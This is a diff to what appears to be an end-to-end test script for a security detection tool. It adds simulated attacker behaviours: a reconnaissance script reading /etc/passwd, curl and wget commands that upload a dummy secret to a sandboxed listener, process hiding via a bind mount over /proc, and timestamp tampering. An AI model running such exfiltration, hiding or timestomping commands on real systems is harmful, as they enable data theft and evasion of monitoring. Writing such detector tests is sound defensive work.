@@ -117,6 +117,62 @@ printf 'not a module e2e-%s\n' "$t" > "e2e-$t.ko"
 run "$d/insmod" "$d/e2e-$t.ko"
 run "$py" -c "open('$d/e2e-$t.ko', 'rb').read()"
 
+say "discovery burst: one script, eleven discovery commands"
+cat > "discover-$t.sh" <<'EOF'
+uname -a
+id
+whoami
+hostname
+cat /etc/passwd
+ps aux
+ip a
+getent group root
+groups
+uptime
+w
+EOF
+run sh "$d/discover-$t.sh"
+
+say "exfiltration: curl -T and wget --post-file to a listener in a private netns"
+echo "e2e-$t secret" > "exfil-$t.txt"
+cat > exfil-listener.py <<'EOF'
+import socket
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("192.0.2.10", 8080))
+s.listen(4)
+s.settimeout(15)
+open("ready-exfil", "w").close()
+for _ in range(2):
+    c, _ = s.accept()
+    c.close()
+EOF
+cat > exfil.sh <<EOF
+ip link set lo up
+ip addr add 192.0.2.10/32 dev lo
+$py exfil-listener.py & l=\$!
+while [ ! -e ready-exfil ]; do sleep 0.05; done
+curl -s --max-time 3 -T $d/exfil-$t.txt http://192.0.2.10:8080/
+wget -q -T 3 -t 1 -O /dev/null --post-file=$d/exfil-$t.txt http://192.0.2.10:8080/
+wait \$l
+EOF
+run unshare -n sh exfil.sh
+
+say "process hidden by a bind mount over /proc/<pid> (private mount namespace)"
+mkdir -p "hide-$t"
+cat > hide.sh <<EOF
+mount --make-rprivate / || exit 1
+sleep 30 & v=\$!
+mount --bind $d/hide-$t /proc/\$v
+umount /proc/\$v
+kill \$v
+EOF
+run unshare -m sh hide.sh
+
+say "atime-only timestomp"
+: > "atime-$t"
+run touch -a -d 2019-01-01 "$d/atime-$t"
+
 say "process memory of another process"
 sleep 30 &
 victim=$!
